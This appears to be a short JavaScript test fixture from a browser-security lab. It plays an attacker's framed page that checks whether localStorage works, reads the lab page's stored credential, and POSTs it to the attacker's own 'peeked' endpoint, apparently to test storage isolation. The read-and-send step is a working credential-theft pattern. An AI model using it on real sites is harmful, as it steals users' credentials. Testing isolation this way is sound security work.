// A page of the attacker's in a frame: what does it find in localStorage where the lab's page keeps its credential?
// What it cannot look into is not reported: that would not be nothing.
function found() {
  // A storage that does not keep what this page puts in says nothing about what others put in.
  const [mark, value] = ['peek', crypto.getRandomValues(new Uint32Array(4)).join()]
  localStorage.setItem(mark, value)
  const kept = localStorage.getItem(mark)
  localStorage.removeItem(mark)
  if (kept !== value) throw new Error('this page has no localStorage that keeps anything')
  return localStorage.getItem(document.documentElement.dataset.key) ?? ''
}

await fetch('peeked' + location.search, { method: 'POST', body: found() }).catch(() => {})
